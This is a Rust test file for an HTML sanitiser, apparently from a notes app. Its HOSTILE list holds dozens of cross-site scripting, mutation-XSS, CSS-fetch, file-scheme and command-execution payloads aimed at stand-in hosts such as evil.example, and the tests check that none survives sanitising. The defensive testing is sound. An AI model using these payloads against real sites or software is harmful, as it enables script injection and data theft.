use proptest::prelude::*;

use super::*;
use crate::markup::dom::{self, Element, Node};
use crate::markup::picture::{is_reference, is_web};

/// Inputs like those that broke other programs: notes, editors, previews and shells. Each was a way to run code, to
/// fetch, or to reach files and commands of the program around the text.
const HOSTILE: &[&str] = &[
    // Notes that came by synchronisation, and every element that loads or submits.
    "<script>top.require('child_process').exec('id')</script>",
    "<img src=x onerror=alert(1)>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"><param name=a value=b></object>",
    "<link rel=import href=https://evil.example/a.html><link rel=stylesheet href=//evil.example/a.css>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button><input autofocus onfocus=alert(1)></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"file:///etc/passwd\">x</a><a href=\"smb://evil.example/x\">x</a><a href=\"ms-msdt:/id PCWDiagnostic\">x</a>",
    "<a href=\"x.desktop\">x</a><a href=\"file://evil.example/share/x.desktop\">x</a>",
    "</pre><style onload=alert(1)></style><pre>",
    "<svg/onload=alert(1)><img src=x:x onerror=alert(1)//",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></form>",
    "<pre class=mermaid>graph TD; a[\"<img src=x onerror=alert(1)>\"]</pre>",
    "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>",
    "<embed src=\"typora://app/typemark/updater.html?x=<script>\"><iframe src=\"tauri://localhost/\"></iframe>",
    "<img src=\"asset://localhost/etc/passwd\"><img src=\"app://local/etc/passwd\"><img src=\"ipc://localhost/x\">",
    "<iframe src=\"https://evil.example/\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"file:///etc/passwd\" width=1 height=1></iframe>",
    "<a href=\"ms-appinstaller:?source=https://evil.example/x\">x</a>",
    "<a target=_top href=\"https://evil.example\">x</a><base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    // Addresses that are code.
    "<a href=\"javascript:alert(1)\">x</a><a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\" &#1; javascript:alert(1)\">x</a><a href=\"java&Tab;script&NewLine;:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href='https://a.example/\" onclick=\"alert(1)'>x</a>",
    "<img src=\"javascript:alert(1)\"><img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img srcset=\"https://evil.example/a.png 1x\" src=\"https://evil.example/b.png\" sizes=1px>",
    "<picture><source srcset=\"https://evil.example/a.png\"><img src=\"https://evil.example/b.png\"></picture>",
    "<video poster=https://evil.example/a.png autoplay onplay=alert(1)><source src=x onerror=alert(1)><track src=https://evil.example/t></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio><bgsound src=https://evil.example/a.mid>",
    "<input type=image src=https://evil.example/a.png><table background=https://evil.example/a.png><body background=https://evil.example/a.png>",
    // Pictures that are documents.
    "<svg><script>alert(1)</script></svg><svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math href=\"javascript:alert(1)\">x</math><math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    // Style that fetches.
    "<style>input[value^=a]{background:url(https://evil.example/a)}@import 'https://evil.example/b.css';</style>",
    "<p style=\"background:url(https://evil.example/a)\">x</p><p style=\"position:fixed;inset:0;behavior:url(x)\">x</p>",
    "<b style=\"font-weight:bold;background-image:url('https://evil.example/a')\">x</b>",
    "<font style=\"-moz-binding:url(https://evil.example/x#y)\">x</font>",
    // Names that stand for those of the page.
    "<img name=getElementById><a id=location href=x>x</a><form id=document name=body></form><p id=app class=app>x</p>",
    "<a name=x id=backend href=#app>x</a><a ping=https://evil.example href=https://a.example download>x</a>",
    // Parsers that are of two minds.
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template><select><option><style></option></select><img src=x onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math></br><script>alert(1)</script>",
    "<table><caption><svg><desc><table><tr><td><style><!--</style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img\u{0}src=x\u{0}onerror=alert(1)><scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<a href=\"https://a.example\" onmouseover\u{c}=\u{c}alert(1)>x</a><p onclick>x</p>",
    "<div><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
    "<dialog open><isindex action=javascript:alert(1)></dialog><portal src=https://evil.example></portal><fencedframe></fencedframe>",
    "<p is=x-evil slot=a part=b exportparts=c nonce=d contenteditable autofocus tabindex=0 popover>x</p>",
    "<img src=\"media/../../etc/passwd\"><img src=\"media/0123456789abcdef.jpg/../../x\"><img src=\"//evil.example/a.png\">",
    "<img src=\"media/0123456789abcdef.jpg\" alt=\"&quot; onerror=alert(1) x=&quot;\">",
    "<img alt=\"<img src=x onerror=alert(1)>\">",
    "<iframe><img src=x onerror=alert(1)></iframe><noembed><img src=x onerror=alert(1)></noembed>",
    "<b\u{202e}>x</b><a href=https://a.example>\u{202e}moc.knab\u{200b}</a>",
    "<q cite=javascript:alert(1)>x</q><blockquote cite=data:text/html,x>x</blockquote><del cite=file:///x>x</del>",
];

fn policies() -> [Policy; 3] {
    [Policy::Reading, Policy::Channel, Policy::Paste]
}

/// Panics if anything in `html`, as a browser would parse it, could run, submit, frame, restyle or fetch.
#[track_caller]
fn assert_inert(html: &str, policy: Policy, input: &str) {
    fn walk(nodes: &[Node], check: &mut dyn FnMut(&Element)) {
        for node in nodes {
            if let Node::Element(element) = node {
                check(element);
                walk(&element.children, check);
            }
        }
    }
    let nodes = dom::parse(html).unwrap_or_else(|| panic!("deep: {input}"));
    walk(&nodes, &mut |element| {
        let known = dom::is_inline(&element.name)
            && !matches!(element.name.as_str(), "label" | "font" | "big" | "acronym");
        let block = matches!(
            element.name.as_str(),
            "address"
                | "article"
                | "aside"
                | "blockquote"
                | "caption"
                | "center"
                | "col"
                | "colgroup"
                | "dd"
                | "details"
                | "div"
                | "dl"
                | "dt"
                | "figcaption"
                | "figure"
                | "footer"
                | "h1"
                | "h2"
                | "h3"
                | "h4"
                | "h5"
                | "h6"
                | "header"
                | "hr"
                | "li"
                | "ol"
                | "p"
                | "pre"
                | "section"
                | "summary"
                | "table"
                | "tbody"
                | "td"
                | "tfoot"
                | "th"
                | "thead"
                | "tr"
                | "ul"
        );
        assert!(known || block, "<{}> from {input}", element.name);
        for (name, value) in &element.attributes {
            let fine = match name.as_str() {
                "href" => {
                    element.is("a")
                        && match url::Url::parse(value) {
                            Ok(url) => matches!(url.scheme(), "http" | "https" | "mailto" | "tel"),
                            Err(_) => policy == Policy::Channel || value.starts_with('#'),
                        }
                }
                "src" => {
                    element.is("img") && (is_reference(value) || (policy == Policy::Channel && is_web(value)))
                }
                "style" => {
                    policy == Policy::Paste
                        && !value.contains("url")
                        && !value.contains("position")
                        && !value.contains('@')
                }
                "id" => policy != Policy::Reading || value.starts_with("text-"),
                "class" => policy != Policy::Reading || !value.contains("app"),
                "cite" => is_web(value),
                "data-kind" => policy == Policy::Reading,
                "data-align" | "role" => policy == Policy::Channel,
                "rel" => element.is("a"),
                "alt" | "title" | "lang" | "dir" | "width" | "height" | "start" | "reversed" | "type"
                | "value" | "colspan" | "rowspan" | "scope" | "datetime" | "open" | "span" | "hreflang" => {
                    true
                }
                _ => false,
            };
            assert!(fine, "{}[{name}={value:?}] with {policy:?} from {input}", element.name);
        }
    });
}

#[test]
fn nothing_hostile_stays_alive() {
    for policy in policies() {
        for input in HOSTILE {
            let out = sanitise(input, policy);
            assert_inert(&out, policy, input);
            assert_eq!(sanitise(&out, policy), out, "not settled: {input}");
        }
        assert_inert(&sanitise(&HOSTILE.concat(), policy), policy, "all of them");
    }
}

/// The same inputs written into Markdown, in a cell, a quote, a list, and as an island.
#[test]
fn nothing_hostile_stays_alive_through_markdown() {
    use crate::model::post::Format;
    for input in HOSTILE {
        for markdown in [
            (*input).to_owned(),
            format!("mots {input} mots"),
            format!("> {input}\n\n- {input}\n\n| a |\n|---|\n| {input} |\n"),
            format!("```{{=html}}\n{input}\n```\n"),
            format!("```\n{input}\n```\n"),
            format!("![{input}](https://a.example/x.png \"{input}\")"),
            format!("[x]({input})\n\n<{input}>"),
        ] {
            let shown = crate::markup::reading_html(&markdown, Format::Markdown, &|_| None);
            assert_inert(&shown, Policy::Reading, &markdown);
            if let Ok(sent) = crate::markup::to_html(&markdown, &|_| Some("https://a.example/a.jpg".into())) {
                assert_inert(&sent.replace("<!--more-->", ""), Policy::Channel, &markdown);
            }
        }
        let shown = crate::markup::reading_html(input, Format::Html, &|_| None);
        assert_inert(&shown, Policy::Reading, input);
        let pasted = crate::markup::from_paste(input);
        assert_inert(
            &crate::markup::reading_html(&pasted, Format::Markdown, &|_| None),
            Policy::Reading,
            &pasted,
        );
    }
}

#[test]
fn markdown_links_that_are_code_are_words() {
    for address in [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "ms-msdt:/id",
    ] {
        let markdown = format!("[x]({address}) <{address}>");
        let html = crate::markup::to_html(&markdown, &|_| None).unwrap();
        assert!(!html.contains("href"), "{html}");
    }
}

#[test]
fn words_and_their_structure_stay() {
    let html = "<h2>Été</h2>\n<p>«\u{a0}Oui\u{202f}» &amp; <em>non</em> <strong>&lt;x&gt;</strong></p>\n\
                <ul>\n<li>a</li>\n</ul>\n<hr /><table><tbody><tr><td>1</td></tr></tbody></table>";
    for policy in policies() {
        assert_eq!(sanitise(html, policy), html);
    }
}

#[test]
fn identifiers_are_prefixed_and_links_to_them_follow() {
    assert_eq!(
        sanitise("<p id=app>x</p><a href=#app>y</a>", Policy::Reading),
        "<p id=\"text-app\">x</p><a href=\"#text-app\" rel=\"noopener noreferrer\">y</a>"
    );
    assert_eq!(sanitise("<p id=app>x</p>", Policy::Channel), "<p id=\"app\">x</p>");
}

#[test]
fn a_remote_picture_is_a_card_when_shown_and_stays_when_sent() {
    let html = r#"<p><img src="https://exemple.fr/a.jpg" alt="Une île"></p>"#;
    assert_eq!(
        sanitise(html, Policy::Reading),
        "<p><span class=\"elsewhere\" data-kind=\"picture\">Une île <small>exemple.fr</small></span></p>"
    );
    assert_eq!(
        sanitise(html, Policy::Channel),
        r#"<p><img src="https://exemple.fr/a.jpg" alt="Une île" /></p>"#
    );
}

#[test]
fn nesting_and_size_are_bounded() {
    let deep = 10_000;
    for input in [
        "<div>".repeat(deep),
        "<b>".repeat(deep),
        "<b id=x><i>".repeat(deep),
        "<table><tr><td>".repeat(deep),
        "<svg>".repeat(deep),
        "<math><mtext>".repeat(deep),
        "<a href=x>".repeat(deep),
        "<ul><li>".repeat(deep),
        format!(
            "{}{}",
            (0..90).map(|i| format!("<b class=c{i}>")).collect::<String>(),
            "<p>x".repeat(50_000)
        ),
        format!("<p>{}", "mot ".repeat(262_144)),
        "<".repeat(1 << 17),
        "&".repeat(1 << 17),
        "\u{a0}".repeat(1 << 19),
        "&nbsp".repeat(1 << 16),
        format!("<p title=\"{}\">", "&".repeat(1 << 20)),
        "mot & mot ".repeat(1 << 17),
        "<a ".repeat(1 << 18),
        "<a title=\"".repeat(1 << 17),
        "<!--".repeat(1 << 18),
        "</p>".repeat(1 << 15),
        "<p>".repeat(1 << 15),
        "<table><p>".repeat(90),
    ] {
        for policy in policies() {
            let head: String = input.chars().take(30).collect();
            let out = sanitise(&input, policy);
            assert_inert(&out, policy, &head);
        }
    }
}

#[test]
fn what_is_nested_beyond_reason_comes_back_as_words() {
    let html = format!("{}a &amp; b<script>alert(1)</script>{}", "<div>".repeat(500), "</div>".repeat(500));
    assert_eq!(sanitise(&html, Policy::Reading), "a &amp; b");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    #[test]
    fn soup_is_inert(html in "(<|>|</|<!--|-->|\"|'|=|/| |a|b|p|svg|math|style|script|img|table|td|template|title|select|onerror=x|src=x|href=javascript:x|&colon;|&#x|;|\u{0}|é){0,60}") {
        for policy in policies() {
            let out = sanitise(&html, policy);
            assert_inert(&out, policy, &html);
            prop_assert_eq!(sanitise(&out, policy), out);
        }
    }

    #[test]
    fn mixed_payloads_are_inert(picks in prop::collection::vec(0..HOSTILE.len(), 1..5), cut in 0usize..200) {
        let joined: String = picks.into_iter().map(|i| HOSTILE[i]).collect();
        let cut: String = joined.chars().skip(cut.min(20)).collect();
        for policy in policies() {
            assert_inert(&sanitise(&cut, policy), policy, &cut);
        }
    }
}

#[test]
fn a_long_line_keeps_every_word() {
    let line = "l’été à «\u{a0}Œuvre\u{a0}» & co <b>gras</b> ".repeat(20_000);
    let expected = line.replace('&', "&amp;");
    assert_eq!(sanitise(&line, Policy::Channel), expected);
    let line = "&eacute;&amp;\u{a0}".repeat(50_000);
    assert_eq!(sanitise(&line, Policy::Reading), "é&amp;\u{a0}".repeat(50_000));
}
